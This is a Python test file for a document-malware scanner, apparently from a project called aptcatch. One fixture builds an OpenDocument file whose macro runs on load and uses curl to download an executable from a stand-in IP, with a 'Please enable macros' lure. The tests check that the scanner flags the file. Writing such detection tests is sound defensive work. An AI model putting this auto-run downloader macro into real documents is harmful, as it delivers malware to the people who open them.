"""OpenDocument packages built in memory."""

from __future__ import annotations

from aptcatch.capture.engine import Scanner
from tests.capture.formats.ooxml_helpers import ids, indicator_values, zip_bytes

OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _odt(content: str, extra: dict[str, str | bytes] | None = None) -> bytes:
    parts: dict[str, str | bytes] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<?xml version="1.0"?><office:document-content {OFFICE}>{content}'
        "</office:document-content>",
        "meta.xml": '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><office:meta>'
        "<meta:initial-creator>Olga</meta:initial-creator><meta:generator>LibreOffice/7.4</meta:generator>"
        "</office:meta></office:document-meta>",
    }
    parts.update(extra or {})
    return zip_bytes(parts)


def test_odf_macro_autoexec_and_text(scanner: Scanner) -> None:
    content = (
        "<office:scripts><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts>"
        "<office:body><office:text><text:p>Please enable macros</text:p></office:text></office:body>"
    )
    module = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
        'script:name="Module1" script:language="StarBasic">Sub Main\n'
        'Shell("cmd /c curl http://203.0.113.77/p.exe -o %TEMP%\\p.exe")\nEnd Sub</script:module>'
    )
    r = scanner.scan_bytes(_odt(content, {"Basic/Standard/Module1.xml": module}), name="x.odt")
    assert r.type == "odf"
    assert {"odf.macro_autoexec", "odf.basic_macro", "odf.macro_suspicious"} <= ids(r)
    assert "http://203.0.113.77/p.exe" in indicator_values(r)
    assert r.artifact.metadata["author"] == "Olga"
    assert r.lure.excerpt is not None and "enable macros" in r.lure.excerpt
    assert r.verdict == "malicious"


def test_odf_embedded_object_child(scanner: Scanner) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    r = scanner.scan_bytes(_odt("<office:body/>", {"Object 1": ole}), name="o.odt")
    assert "Object 1" in {c.name for c in r.artifact.children}
    assert r.verdict == "clean"


def test_odf_plain_is_clean(scanner: Scanner) -> None:
    r = scanner.scan_bytes(_odt("<office:body><office:text><text:p>Hi</text:p></office:text></office:body>"))
    assert not {f.id for f in r.findings if f.weight >= 0.1}
